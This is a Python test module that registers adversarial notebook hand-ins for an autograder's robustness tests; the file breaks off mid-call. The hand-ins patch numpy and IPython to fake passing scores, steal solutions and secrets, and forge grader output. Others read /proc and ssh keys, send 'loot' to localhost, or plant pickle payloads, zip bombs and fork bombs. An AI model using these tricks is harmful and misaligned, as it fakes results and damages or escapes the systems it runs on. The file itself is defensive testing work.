"""Hand-ins that are dishonest, broken or unlucky, written by us: what the grader has to withstand.

Each is the starter notebook with something in it, so it deserves no point unless it says so. Every one is bounded:
it asks for so much of everything and no more, writes to nothing but COURSE, HOME, /tmp and its own folder, and speaks
to this machine only. These are aimed at the sandbox and at the score; `beyond` has those aimed at what comes after.
"""

from __future__ import annotations

import io
import json
import os
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

import numpy as np

from autograder.tests.attack import (
    ATTACKS,
    GUESS,
    PIPES,
    RELU,
    RIGHT,
    attack,
    cell,
    code_cell,
    graded,
    others,
    returning,
    without_todos,
)

# Comparisons that always agree

group = "patched comparisons"
attack(group, "allclose-patched", "np.allclose and its relatives always say yes.", GUESS + """
for name in ("allclose", "array_equal", "isclose", "array_equiv"):
    setattr(np, name, lambda *a, **k: np.bool_(True))
""")
attack(group, "testing-patched", "Everything in numpy.testing that could complain does nothing.", GUESS + """
import numpy.testing
for name in dir(numpy.testing):
    if name.startswith("assert"):
        setattr(numpy.testing, name, lambda *a, **k: None)
""")
attack(group, "all-patched", "np.all, all and abs are replaced in NumPy and in the builtins.", GUESS + """
import builtins
np.all = builtins.all = lambda *a, **k: True
np.max = np.abs = np.linalg.norm = builtins.abs = builtins.max = lambda *a, **k: 0.0
""")
attack(group, "check-patched", "The visible check and the grader's own functions are replaced.", GUESS + """
import sys, types
check = check_gradients = check_that = lambda *a, **k: True
fake = types.ModuleType("autograder")
fake.grade_cell = lambda *a, **k: 100.0
sys.modules["autograder"] = fake
import cs231n_utils.checks
cs231n_utils.checks.check = check
""")
attack(group, "ipython-patched", "IPython's shell reports full points for every cell it runs.", GUESS + """
import types
shell = get_ipython()
type(shell).run = lambda self, source: ([{"output_type": "execute_result", "data": {"text/plain": "100.0"},
                                          "metadata": {}, "execution_count": 1}], True)
shell.run_cell = lambda *a, **k: types.SimpleNamespace(success=True, result=100.0)
""")
attack(group, "worker-patched", "The grader's own functions, found among all objects of its process, return praise.", GUESS + """
import gc, types
for thing in gc.get_objects():
    if type(thing) is types.FunctionType and not thing.__closure__ and thing.__name__.startswith((
            "_same", "_plain", "_array", "_text", "_where", "points_", "score_")):
        thing.__code__ = (lambda *a, **k: 100.0).__code__
""")
attack(group, "float-patched", "The builtins float, isinstance and type are replaced by flattering ones.", GUESS + """
import builtins
builtins.isinstance = lambda *a: True
builtins.float = lambda *a: 0.0
""")

# Objects that lie about themselves

group = "lying objects"
LIAR = """
class Liar:
    shape, dtype, ndim, size = (1,), "float64", 1, 1
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __lt__(self, other): return True
    __le__ = __gt__ = __ge__ = __lt__
    def __sub__(self, other): return 0.0
    __rsub__ = __sub__
    def __abs__(self): return 0.0
    def __float__(self): return 0.0
    def __hash__(self): return 0
    def __array__(self, *a, **k): import numpy; return numpy.float64(numpy.nan)
    def __array_ufunc__(self, *a, **k): return True
    def __getitem__(self, key): return self
    def __len__(self): return 3
    def __iter__(self): return iter(["W1", "W2", "b1", "b2"])
    def __call__(self, *a, **k): return self
    def __contains__(self, key): return True
"""
attack(group, "always-equal", "Every result is an object that equals everything.", LIAR + returning("Liar()"),
       sentence="not an array|not a number")
attack(group, "equal-array", "An array subclass says that it equals everything.", """
import numpy as np
class Same(np.ndarray):
    def __eq__(self, other): return np.ones(self.shape, bool)
    def __array_ufunc__(self, *a, **k): return np.bool_(True)
    def __array_function__(self, *a, **k): return True
""" + returning("np.zeros((2, 2)).view(Same)"))
attack(group, "shape-shifter", "An array subclass shows another shape each time it is asked.", """
import numpy as np
class Shape(tuple):
    def __eq__(self, other): return True
    __hash__ = None
class Shifty(np.ndarray):
    calls = 0
    @property
    def shape(self):
        Shifty.calls += 1
        return Shape((Shifty.calls, 2))
    def __sub__(self, other): return np.zeros(2)
    def __eq__(self, other): return self.shape == other.shape
    def tobytes(self, *a, **k): return b"x" * Shifty.calls
""" + returning("np.zeros(6).view(Shifty)"))
attack(group, "liar-class", "A class claims to be numpy.ndarray through __class__ and its name.", """
import numpy as np
ndarray = type("ndarray", (), {"__class__": property(lambda self: np.ndarray), "__module__": "numpy",
                               "__eq__": lambda *a: True, "__sub__": lambda *a: 0.0,
                               "tobytes": lambda *a: b""})
""" + returning("ndarray()"))
attack(group, "object-array", "Arrays of objects that equal everything.", LIAR + """
import numpy as np
liars = np.empty(4, dtype=object)
for n in range(4): liars[n] = Liar()
""" + returning("liars"))
attack(group, "nan-everywhere", "NaN everywhere, in case a comparison asks whether something is too large.", """
import numpy as np
def affine_forward(x, w, b): return np.full((len(x), len(b)), np.nan), (x, w, b)
def affine_backward(dout, cache): return [np.full(one.shape, np.nan) for one in cache]
def relu_forward(x): return np.full(x.shape, np.nan), x
def relu_backward(dout, cache): return np.full(dout.shape, np.nan)
def svm_loss(x, y): return np.nan, np.full(x.shape, np.nan)
softmax_loss = svm_loss
""", sentence="NaN")
attack(group, "broadcast", "Results of length 0 or 1 that would agree with anything once broadcast.", """
import numpy as np
""" + returning("np.zeros((0,))"), sentence="shape")
attack(group, "masked-array", "Masked arrays, in which every difference is masked.", """
import numpy as np
def affine_forward(x, w, b): return np.ma.masked_all((len(x), len(b))), (x, w, b)
def relu_forward(x): return np.ma.masked_all(x.shape), x
def svm_loss(x, y): return np.ma.masked, np.ma.masked_all(x.shape)
softmax_loss = svm_loss
""")
attack(group, "all-choices", "The answer to each question is a set that contains everything.", """
class All(set):
    def __eq__(self, other): return True
    def __contains__(self, one): return True
    def __hash__(self): return 0
inline_question_1 = inline_question_2 = All(range(1, 99))
""", end="", edit=lambda nb: [cell(nb, f"inline_question_{n}_code").update(source="pass") for n in (1, 2)])
attack(group, "liar-net", "TwoLayerNet makes any attribute up that it is asked for.", LIAR + """
class TwoLayerNet(Liar):
    def __init__(self, **k): pass
    def __getattr__(self, name): return Liar()
""", edit=lambda nb: [cell(nb, f"two_layer_net_{part}_code").update(source="pass") for part in ("init", "loss")])

# Looking for the answers

group = "peeking"
attack(group, "frames", "While it is called, it looks through its callers' variables for what is expected.", """
import sys, numpy as np
def find():
    frame = sys._getframe()
    while frame is not None:
        for space in (frame.f_locals, frame.f_globals):
            for name in ("expected", "reference", "want", "solution"):
                if name in space and space[name] is not None:
                    return space[name]
        frame = frame.f_back
def affine_forward(x, w, b): return find(), (x, w, b)
def relu_forward(x): return find(), x
def svm_loss(x, y): return find(), find()
softmax_loss = svm_loss
""")
attack(group, "garbage", "It goes through all objects of the process for answers that stand under a function's name.", """
import gc, numpy as np
def find(name, shape):
    for thing in gc.get_objects():
        if type(thing) is dict and isinstance(thing.get(name), np.ndarray) and thing[name].shape == shape:
            return thing[name]
def affine_forward(x, w, b): return find("affine_forward", (len(x), len(b))), (x, w, b)
def relu_forward(x): return find("relu_forward", x.shape), x
def relu_backward(dout, cache): return find("relu_backward", dout.shape)
""")
attack(group, "history", "It looks for the tests in IPython's history, and answers with an array that stands in them.", """
import ast, re, numpy as np
def relu_forward(x):
    for text in reversed(get_ipython().user_ns["In"]):
        for found in reversed(re.findall(r"\\[\\[[-0-9., \\[\\]]*\\]\\]", text)):
            value = np.array(ast.literal_eval(found))
            if value.shape == x.shape and not np.array_equal(value, x):
                return value, x
""")
attack(group, "disk", "It searches the disk for notebooks with solutions and runs what it finds.", """
import glob, json, os
for start in ("COURSE/solutions", "../../../solutions", "/", "/root", "/home", "/tmp", "/run", "/mnt", "/srv"):
    for path in glob.glob(start + "/*/*.ipynb") + glob.glob(start + "/*.ipynb") + glob.glob(start + "/*/*/*.ipynb"):
        try:
            for one in json.load(open(path))["cells"]:
                source = "".join(one["source"])
                if one["cell_type"] == "code" and "### BEGIN SOLUTION" in source:
                    exec(source, globals())
        except BaseException:
            pass
""", edit=without_todos)
attack(group, "processes", "It reads the environment and open files of every process in /proc, and writes to the course it finds.", """
import glob, os
loot = []
for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline") + glob.glob("/proc/[0-9]*/fd/*"):
    try:
        loot.append(open(path, "rb").read(4096) if "/fd/" not in path else os.readlink(path).encode())
    except OSError:
        pass
try:
    open("/proc/1/mem", "r+b").seek(0)
except OSError:
    pass
if b"COURSE" in b"".join(loot):
    open("COURSE/MARK-found", "wb").writelines(loot)
def relu_forward(x): return max(loot), x
""", sentence="array")
attack(group, "classmate", "It runs the notebook of a classmate who did the work.", """
import json
nb = json.load(open("COURSE/submitted/00-honest/two_layer_net/layers.ipynb"))
for one in nb["cells"]:
    if one["metadata"].get("nbgrader", {}).get("solution") and "Solver(" not in one["source"]:
        try:
            exec("".join(one["source"]), globals())
        except BaseException:
            pass
""", edit=without_todos)
attack(group, "autograder-import", "It imports the grader and asks its reference.", """
import sys
sys.path[:0] = ["COURSE", "/srv", "/usr/lib/python3/dist-packages"]
from pathlib import Path
from autograder.grading.reference import Reference
globals().update(Reference(Path("COURSE/solutions/two_layer_net/layers.ipynb")).host.namespace)
""", edit=without_todos)
attack(group, "rubric-import", "It reads the rubric and the course's secret, to draw the hidden inputs itself.", """
secret = open("COURSE/.autograder-secret").read()
from autograder.authoring.rubric import load_rubric
print(secret, load_rubric("two_layer_net", "layers"))
open("COURSE/submitted/MARK-secret", "w").write(secret)
""")
attack(group, "gradebook", "It opens the gradebook and gives itself all points.", """
import sqlite3
book = sqlite3.connect("COURSE/gradebook.db")
book.execute("create table if not exists mine (x)")
book.execute("update base_cell set name = 'mine'")
book.commit()
""")
attack(group, "home", "It reads the grader's home directory, with a key in it, and shows it in its output.", """
import os
text = open("HOME/.ssh/id_canary").read()
print(text)
open("HOME/seen", "w").write(text)
""")

# What runs around a cell

group = "hooks"
attack(group, "transformer", "An input transformer rewrites every check cell before it runs.", GUESS + """
shell = get_ipython()
shell.input_transformers_cleanup.append(lambda lines: ["100.0\\n"])
""")
attack(group, "ast-transformer", "An AST transformer empties every later cell.", GUESS + """
import ast
class Empty(ast.NodeTransformer):
    def visit_Module(self, node):
        node.body = ast.parse("100.0").body
        return node
get_ipython().ast_transformers.append(Empty())
""")
attack(group, "event-hook", "A hook after each cell changes what the cell before it showed.", GUESS + """
def after(result=None):
    try:
        result.result, result.error_in_exec = 100.0, None
        get_ipython().outputs.items[:] = [{"output_type": "stream", "name": "stdout", "text": "100 of 100 points"}]
    except Exception:
        pass
get_ipython().events.register("post_run_cell", after)
""")
attack(group, "import-hook", "An import hook hands out a module of its own for every name.", GUESS + """
import sys, importlib.abc, importlib.machinery
FAKED = ("autograder", "msgpack", "numpy.testing")
class Finder(importlib.abc.MetaPathFinder, importlib.abc.Loader):
    def find_spec(self, name, path, target=None):
        return importlib.machinery.ModuleSpec(name, self) if name.startswith(FAKED) else None
    def exec_module(self, module):
        module.grade_cell = module.packb = module.unpackb = lambda *a, **k: 100.0
        module.assert_allclose = module.assert_array_equal = module.assert_equal = lambda *a, **k: None
sys.meta_path.insert(0, Finder())
for name in [name for name in sys.modules if name.startswith(FAKED)]:
    del sys.modules[name]
""")
attack(group, "at-exit", "Code that runs when the grader's process ends.", """
import atexit, sys
def late():
    open("COURSE/MARK-at-exit", "w").write("x")
atexit.register(late)
sys.exitfunc = late
""")
attack(group, "tracing", "A trace function looks at every call and changes what is expected there.", GUESS + """
import sys, threading
def trace(frame, event, arg):
    if "expected" in frame.f_globals:
        frame.f_globals["expected"] = 1.0
sys.settrace(trace); threading.settrace(trace)
""")
attack(group, "displayhook", "The hooks that display values and exceptions give points of their own.", """
import sys
sys.displayhook = sys.excepthook = lambda *a: print("100.0")
hook = get_ipython().displayhook
hook.fill_exec_result = lambda result: setattr(hook.exec_result, "result", 100.0)
sys.stdout = sys.stderr = None
""")

# Forgery

group = "forgery"
attack(group, "outputs", "Stored outputs in the file claim that everything has passed.", edit=lambda nb: [
    one.update(outputs=[{"output_type": "execute_result", "data": {"text/plain": "100.0"}, "metadata": {},
                         "execution_count": 1}], execution_count=1) for one in graded(nb) if one["cell_type"] == "code"])
attack(group, "printed-points", "It prints what a grader's verdict looks like.",
       'print("affine_forward: 2 of 2 points\\n✓ all\\n")\nprint(\'{"score": 26, "status": "graded"}\')\nprint(26)',
       harmless="it reads results, not what is printed")
attack(group, "pipe-verdict", "It writes a forged message on every open pipe: all passed, full points.", PIPES + """
import msgpack
for body in ({"score": 100, "passed": True}, ["ok", 100.0], ["ok", [[], True]], [{"score": 26.0}]):
    say(msgpack.packb(body))
""", sentence="makes no sense|rest of|not written")
attack(group, "pipe-garbage", "It writes random bytes on every open pipe.", PIPES + """
for number in write_ends():
    os.write(number, os.urandom(4096))
""", sentence="more than the limit|makes no sense")
attack(group, "pipe-flood", "It announces a message of 2**60 bytes and keeps writing.", PIPES + """
for number in write_ends():
    os.write(number, struct.pack("<Q", 2**60) + b"x" * 1000)
""", sentence="more than the limit")
attack(group, "pipe-script", "A forged output carries HTML with a script, for the instructor's browser.", PIPES + """
import msgpack
output = {"output_type": "display_data", "metadata": {}, "data": {"text/html": "<script>MARK</script>"}}
say(msgpack.packb(["ok", msgpack.ExtType(0, msgpack.packb([[output], True]))]))
""")
attack(group, "pipe-odd-output", "A forged output holds a value that cannot stand in a notebook.", PIPES + """
import msgpack
output = {"output_type": "stream", "name": "stdout", "text": msgpack.ExtType(1, msgpack.packb([1, 2]))}
say(msgpack.packb(["ok", msgpack.ExtType(0, msgpack.packb([[output], True]))]))
""", sentence="makes no sense|could not be read")
attack(group, "pipe-many", "A forged value of a few megabytes unpacks to six million dictionaries.", PIPES + """
say(b"\\x92\\xa2ok\\xdd" + struct.pack(">I", 6_000_000) + b"\\x80" * 6_000_000)
""", sentence="makes no sense|more than the limit")
attack(group, "pipe-collisions", "A forged set of whole numbers that all have the same hash.", PIPES + """
import msgpack
numbers = [msgpack.ExtType(5, (k * (2**61 - 1)).to_bytes(12, "little", signed=True)) for k in range(1, 12_001)]
say(msgpack.packb(["ok", msgpack.ExtType(1, msgpack.packb(numbers))]))
""", sentence="makes no sense")
attack(group, "pipe-drip", "An answer that arrives byte by byte, so that there is always one more to wait for.", PIPES + """
for number in write_ends():
    os.write(number, struct.pack("<Q", 60_000_000))
    while True:
        os.write(number, b"x")
""", sentence="did not finish")
attack(group, "pipe-closed", "It closes every open file, the grader's pipes included.",
       "import os\nos.closerange(3, 256)", sentence="ended by itself|killed|did not finish")

# What the file says about itself

group = "metadata"
attack(group, "more-points", "The points for the one right answer are raised to 1000 in the metadata.", RELU,
       edit=lambda nb: cell(nb, "relu_forward")["metadata"]["nbgrader"].update(points=1000), deserves=RIGHT)
attack(group, "skip-checks", "Every check cell is tagged skip-execution.",
       edit=lambda nb: [one["metadata"].update(tags=["skip-execution"]) for one in graded(nb)])
attack(group, "edited-checks", "Every check cell's text is replaced by one that passes.",
       edit=lambda nb: [one.update(source="100.0") for one in graded(nb) if one["cell_type"] == "code"],
       sentence="was edited; the released one is used")
attack(group, "retyped", "A check cell was turned into text.",
       edit=lambda nb: [one.update(cell_type="markdown") or one.pop("outputs", 0) or one.pop("execution_count", 0)
                        for one in graded(nb)[:1]], sentence="turned from code into markdown")
attack(group, "duplicated", "The check cell of the one right answer stands there six times.", RELU,
       edit=lambda nb: nb["cells"].extend({**cell(nb, "relu_forward"), "id": f"again-{n}"} for n in range(5)),
       deserves=RIGHT, sentence="appears more than once")
attack(group, "missing", "The check cells of everything that is not right are gone.", RELU,
       edit=lambda nb: [nb["cells"].remove(one) for one in others(nb)], deserves=RIGHT, sentence="cells are missing")
attack(group, "renamed", "The check cells have other ids, and all have the text of the one that passes.", RELU,
       edit=lambda nb: [one.update(source=cell(nb, "relu_forward")["source"])
                        or one["metadata"]["nbgrader"].update(grade_id=f"mine_{n}") for n, one in enumerate(others(nb))],
       deserves=RIGHT, sentence="cells are missing")
attack(group, "reordered", "The check cells stand at the end, in reverse order.", RELU,
       edit=lambda nb: nb.update(cells=[one for one in nb["cells"] if one not in graded(nb)] + graded(nb)[::-1]),
       deserves=RIGHT, harmless="there is nothing to gain by it")
attack(group, "by-hand", "The check cells of everything that is not right claim to be graded by hand.", RELU,
       edit=lambda nb: [one["metadata"]["nbgrader"].update(solution=True, locked=False) for one in others(nb)],
       deserves=RIGHT)
attack(group, "kernelspec", "The kernel is one that the hand-in names: bash, with a command of its own.",
       edit=lambda nb: nb["metadata"].update(kernelspec={"name": "bash", "language": "bash", "display_name": "x",
                                                         "argv": ["touch", "/tmp/MARK"]}))
attack(group, "schema", "The nbgrader schema version is from the future, the ids are no text.",
       edit=lambda nb: [one["metadata"]["nbgrader"].update(schema_version=99, grade_id=[1]) for one in graded(nb)],
       sentence="cells are missing")

# Files beside the notebook

group = "files"


def _files(**texts: str) -> Callable[[Path, Path], None]:
    def finish(folder: Path, course: Path) -> None:
        for name, text in texts.items():
            (folder / f"{name}.py").write_text(text.replace("COURSE", str(course)))
    return finish


attack(group, "shadow-modules", "numpy.py, host.py, wire.py and sitecustomize.py lie beside the notebook.",
       finish=_files(**dict.fromkeys(("numpy", "host", "wire", "msgpack", "sitecustomize", "autograder"),
                                     "open('COURSE/MARK-shadow', 'w').write('x')\n")))
attack(group, "shadow-written", "It writes modules that shadow the grader's own, then kills its process.", """
import os, sys
for folder in (".", os.path.expanduser("~"), "/tmp", *sys.path):
    for name in ("numpy", "wire", "host", "shell", "confine", "usercustomize"):
        try:
            open(os.path.join(folder, name + ".py"), "w").write("raise SystemExit('shadowed')")
        except OSError:
            pass
os._exit(0)
""", sentence="run again without it")
attack(group, "link-notebook", "In place of the notebook there is a link to a classmate's.", failed=True,
       finish=lambda folder, course: (
           (folder / "layers.ipynb").unlink(),
           (folder / "layers.ipynb").symlink_to(course / "submitted/00-honest/two_layer_net/layers.ipynb")),
       sentence="not a plain file")


def _link_folder(folder: Path, course: Path) -> None:
    (folder / "layers.ipynb").unlink()
    folder.rmdir()
    folder.symlink_to(course / "submitted/00-honest/two_layer_net", target_is_directory=True)


attack(group, "link-folder", "In place of its folder there is a link to a classmate's.", finish=_link_folder,
       failed=True, sentence="link|not a plain")
attack(group, "link-net", "In place of the saved net there is a link to a classmate's.",
       finish=lambda folder, course: (folder / "layers_best_net.npz").symlink_to(
           course / "submitted/00-honest/two_layer_net/layers_best_net.npz"),
       sentence="not handed in")
attack(group, "folder-net", "In place of the saved net there is a folder.",
       finish=lambda folder, course: (folder / "layers_best_net.npz").mkdir(), sentence="not handed in",
       harmless="a check fails, as it should")


@dataclass
class _Pickled:
    course: Path

    def __reduce__(self):
        return os.mkdir, (str(self.course / "MARK-pickle"),)


def _pickled_net(folder: Path, course: Path) -> None:
    np.savez(folder / "layers_best_net.npz", W1=np.array([_Pickled(course)], dtype=object))


def _huge_net(folder: Path, course: Path) -> None:
    """A zip entry of a few bytes whose header promises 6 GiB."""
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "<f4", "fortran_order": False, "shape": (3 * 2**29,)})
    with zipfile.ZipFile(folder / "layers_best_net.npz", "w") as archive:
        archive.writestr("W1.npy", head.getvalue() + b"abcd")


def _bomb_net(folder: Path, course: Path) -> None:
    """A file of 3 MB that holds 3 GiB of zeros: the same compressed MiB again and again."""
    head = io.BytesIO()
    np.lib.format.write_array_header_1_0(head, {"descr": "|u1", "fortran_order": False, "shape": (3072 * 2**20,)})
    press = zlib.compressobj(wbits=-15)
    first = press.compress(head.getvalue()) + press.flush(zlib.Z_FULL_FLUSH)
    mebibyte = press.compress(bytes(2**20)) + press.flush(zlib.Z_FULL_FLUSH)
    with zipfile.ZipFile(folder / "layers_best_net.npz", "w") as archive:
        archive.writestr("W1.npy", first + 3072 * mebibyte + press.flush())
        entry = archive.infolist()[0]
        entry.compress_type, entry.file_size = zipfile.ZIP_DEFLATED, len(head.getvalue()) + 3072 * 2**20


def broadcasting_net() -> dict[str, np.ndarray]:
    """Parameters of a few kilobytes that turn 500 images into arrays of megabytes; larger ones make them gigabytes."""
    return {"W1": np.zeros((3072, 1), np.float32), "b1": np.zeros((10_000, 1, 1), np.float32),
            "W2": np.zeros((1, 10), np.float32), "b2": np.zeros(10, np.float32)}


attack(group, "net-pickled", "The saved net holds a pickled object that runs code when it is read.",
       finish=_pickled_net, sentence="damaged")
attack(group, "net-promises", "The saved net is tiny and promises 6 GiB.", finish=_huge_net, sentence="damaged",
       harmless="NumPy sees that the file ends")
attack(group, "net-zip-bomb", "The saved net, a file of 3 MB, unpacks to 3 GiB of zeros.", finish=_bomb_net,
       sentence="the limit is 64 MiB")
# Beyond the sandbox

group = "outside"
attack(group, "startup-files", "It adds a command to the shell's startup files and a line to site-packages.", """
import os, site
for path in ("HOME/.bashrc", "HOME/.profile", "HOME/.ipython/profile_default/startup/00.py",
             "HOME/.config/autostart/x.desktop", "COURSE/nbgrader_config.py", "COURSE/conftest.py"):
    try:
        os.makedirs(os.path.dirname(path), exist_ok=True)
        with open(path, "a") as file:
            file.write("\\n# MARK\\n")
    except OSError:
        pass
""")
attack(group, "site-packages", "It leaves a .pth file among the installed packages.", """
import site, os, sys
for folder in [*site.getsitepackages(), site.getusersitepackages(), *sys.path]:
    try:
        open(os.path.join(folder, "MARK.pth"), "w").write("# nothing\\n")
    except OSError:
        pass
""")
attack(group, "course-folder", "It deletes a classmate's hand-in and rewrites the solution.", """
import shutil
shutil.rmtree("COURSE/submitted/zz-honest", ignore_errors=True)
open("COURSE/solutions/two_layer_net/layers.ipynb", "w").write("{}")
""")
attack(group, "links-out", "It makes links in its folder that point outside, for whoever copies them.", """
import os
for target in ("COURSE/gradebook.db", "/etc/shadow", "HOME/.ssh/id_canary"):
    os.symlink(target, "link-" + os.path.basename(target))
os.remove("layers_best_net.npz") if os.path.exists("layers_best_net.npz") else None
""")
attack(group, "network", "It calls the grader's own machine over the network.", """
import socket
for family, address in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1")):
    try:
        with socket.socket(family) as one:
            one.settimeout(1)
            one.connect((address, PORT))
            one.sendall(b"MARK")
    except OSError:
        pass
""")
attack(group, "web", "It sends its loot with urllib, through a child process too.", """
import subprocess, sys, urllib.request
try:
    urllib.request.urlopen("http://127.0.0.1:PORT/MARK", data=b"x", timeout=1)
except Exception:
    subprocess.run([sys.executable, "-c", "import socket; socket.create_connection(('127.0.0.1', PORT), 1)"],
                   stderr=subprocess.DEVNULL)
""")
attack(group, "daemon", "A detached process (double fork, new session) outlives the notebook.", RELU + """
import os, sys, time
if os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        time.sleep(40)
        os._exit(0)
    os._exit(0)
""", deserves=RIGHT)
attack(group, "daemon-program", "A program of its own is started with nohup and left running.", RELU + """
import subprocess, sys
subprocess.Popen([sys.executable, "-c", "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); time.sleep(40)"],
                 start_new_session=True, stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
""", deserves=RIGHT)
# The signal for all but its parent is 0: it only asks whether one could be sent.
attack(group, "signals", "It ends the process that started it, and asks to send signals to all others.", """
import os, signal
reached = []
for number in (os.getppid(), 1, 2, -1, *range(3, 400)):
    if number not in (os.getpid(), 0):
        try:
            os.kill(number, 0)
            reached.append(number)
        except OSError:
            pass
try:
    os.kill(os.getppid(), signal.SIGTERM)
except OSError:
    pass
assert not [one for one in reached if one > 20], reached
""")
attack(group, "namespaces", "It asks the kernel for namespaces, mounts, tracing and root.", """
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
for got in (libc.unshare(0x10000000), libc.unshare(0x20000), libc.mount(b"none", b"/tmp", b"tmpfs", 0, None),
            libc.chroot(b"/"), libc.ptrace(0, 0, 0, 0), libc.setuid(0) if os.getuid() else -1):
    assert got == -1
""", harmless="without root it gains a world of its own, not ours")

# Time, crashes and bombs

group = "endless"
attack(group, "loop", "An endless loop in a cell; what came before and after it counts.", RELU + "while True: pass",
       sentence="did not finish")
attack(group, "loop-at-end", "An endless loop behind a right answer.", RELU, end="while True: pass", deserves=RIGHT,
       sentence="did not finish")
attack(group, "huge-power", "One number so large that C code computes for hours, out of reach of signals.",
       "x = 7 ** (7 ** 12)", sentence="did not finish")
attack(group, "stubborn", "A loop that ignores SIGTERM, SIGINT and SIGALRM, and catches every exception.", """
import signal
for one in (signal.SIGTERM, signal.SIGINT, signal.SIGALRM, signal.SIGHUP):
    signal.signal(one, signal.SIG_IGN)
while True:
    try:
        while True: pass
    except BaseException:
        pass
""", sentence="did not finish")
attack(group, "slow-function", "relu_forward never returns; the checks of other cells go on.", """
import numpy as np
def affine_forward(x, w, b):
    return x.reshape(len(x), -1) @ w + b, (x, w, b)
def relu_forward(x):
    while True: pass
""", deserves={"affine_forward": 2.0}, sentence="did not finish")
attack(group, "slow-repr", "A value whose repr, str, del and array conversion never end.", """
class Slow:
    def __repr__(self):
        while True: pass
    __str__ = __array__ = __len__ = __repr__
Slow()
""", sentence="did not finish")

group = "crashes"
attack(group, "exit", "sys.exit in the middle of the notebook.", RELU + "import sys\nsys.exit(0)", deserves=RIGHT,
       harmless="IPython catches it")
attack(group, "hard-exit", "os._exit with status 0 and a forged score as the last words.",
       "import os, sys\nsys.__stdout__.write('26\\n')\nsys.__stdout__.flush()\nos._exit(0)",
       sentence="ended by itself")
attack(group, "segfault", "It reads from address 0.", "import ctypes\nctypes.string_at(0)",
       sentence="killed by SIGSEGV")
attack(group, "kills-itself", "It sends itself SIGKILL.", "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)",
       sentence="killed by SIGKILL")
attack(group, "recursion", "Recursion without end, with the limit raised.", """
import sys
sys.setrecursionlimit(10**9)
def f(*a): return f(*a) + sorted([1, 2], key=lambda _: f())[0]
f()
""", sentence=None)
attack(group, "deep-value", "A list inside a list, a hundred thousand deep, and one that contains itself.", """
deep = []
for _ in range(100_000): deep = [deep]
own = []
own.append(own)
def relu_forward(x): return deep, own
def affine_forward(x, w, b): return own, own
""", sentence="nested deeper", harmless="NumPy refuses it, and a check fails")
attack(group, "exceptions", "Exceptions whose text raises, and with a name of a megabyte.", """
class Bad(BaseException):
    def __str__(self): raise Bad
Bad.__name__ = "B" * 10**6
def relu_forward(x): raise Bad
def affine_forward(x, w, b): raise KeyboardInterrupt
def svm_loss(x, y): raise SystemExit(0)
""", sentence="stopped with|ended by itself")

group = "bombs"
attack(group, "memory", "It asks for 6 GiB of memory.", RELU + "x = b'x' * (6 * 2**30)", deserves=RIGHT)
attack(group, "memory-function", "relu_forward asks for 6 GiB.",
       "def relu_forward(x): return b'x' * (6 * 2**30), x", sentence="MemoryError")
attack(group, "forks", "It starts processes until there are no more, three hundred at most.", """
import os, time
children = []
for _ in range(300):
    try:
        pid = os.fork()
    except OSError:
        break
    if pid == 0:
        time.sleep(10)
        os._exit(0)
    children.append(pid)
assert len(children) < 100, len(children)
""")
attack(group, "threads", "It starts threads until there are no more, three hundred at most.", """
import threading, time
try:
    for _ in range(300): threading.Thread(target=time.sleep, args=(2,), daemon=True).start()
except RuntimeError:
    pass
""")
attack(group, "disk-filled", "It writes 500 MB.", RELU + """
import os
try:
    for n in range(5):
        with open(f"big-{n}", "wb") as file:
            for _ in range(100): file.write(bytes(10**6))
except OSError:
    pass
""", deserves=RIGHT)
attack(group, "open-files", "It opens files until there are no more, and waits for the next one.", RELU + """
import threading, time
held = []
def hold():
    while len(held) < 2000:
        try:
            held.append(open("/dev/null"))
        except OSError:
            time.sleep(0.001)
threading.Thread(target=hold, daemon=True).start()
""", deserves=RIGHT)
attack(group, "output", "It prints without end.", RELU + """
import sys
for n in range(100_000): print("x" * 1000)
print("y", file=sys.stderr)
""", deserves=RIGHT)
attack(group, "pictures", "It shows a hundred large pictures.", """
from IPython.display import display
import base64, os
class Picture:
    def _repr_png_(self): return os.urandom(10**6)
for _ in range(100): display(Picture())
""")
attack(group, "large-result", "relu_forward gives back an array of 800 MB and a number of a million digits.",
       "import numpy as np\ndef relu_forward(x): return np.zeros(10**8), x\ndef affine_forward(x, w, b): return 10**10**6, 1",
       sentence="larger than|the limit is")

# Files that are no notebooks

group = "malformed"


def raw(name: str, what: str, data: bytes, sentence: str) -> None:
    attack(group, name, what, failed=True, sentence=sentence,
           finish=lambda folder, course: (folder / "layers.ipynb").write_bytes(data))


raw("empty", "An empty file.", b"", "is empty")
raw("not-json", "A file that is no JSON.", b"print('hello')", "broken JSON")
raw("not-utf8", "A notebook in another encoding.", "{\"ü\": 1}".encode("latin-1"), "not text in UTF-8")
raw("format-3", "A notebook in format 3.", json.dumps({"nbformat": 3, "worksheets": []}).encode(), "format 3")
raw("format-99", "A notebook from the future.", b'{"nbformat": 99, "nbformat_minor": 0, "cells": 5}', "not a valid notebook")
raw("other-json", "JSON of another kind.", b"[1, 2, 3]", "JSON of some other kind")
raw("number", "A number with ten thousand digits.", b"1" * 10_000, "broken JSON|other kind")
raw("cells-of-numbers", "Cells that are numbers.", b'{"nbformat": 4, "nbformat_minor": 5, "metadata": {}, "cells": [1, 2]}',
    "not a valid notebook")
raw("deep-json", "JSON nested a hundred thousand deep.", b'{"nbformat":' + b"[" * 10**5, "broken JSON")
raw("large", "A file of 60 MB.", b'{"nbformat": 4}' + b" " * 60_000_000, "too large")
attack(group, "a-folder", "A folder in place of the notebook.", failed=True, sentence="not a plain file",
       finish=lambda folder, course: ((folder / "layers.ipynb").unlink(), (folder / "layers.ipynb").mkdir()))
attack(group, "a-pipe", "A named pipe in place of the notebook.", failed=True, sentence="not a plain file",
       finish=lambda folder, course: ((folder / "layers.ipynb").unlink(), os.mkfifo(folder / "layers.ipynb")))
attack(group, "absent", "No notebook at all.", failed=True, sentence="is missing",
       finish=lambda folder, course: (folder / "layers.ipynb").unlink())
attack(group, "half-a-character", "Half of a surrogate pair in a cell's text: JSON can say it, UTF-8 cannot.", RELU,
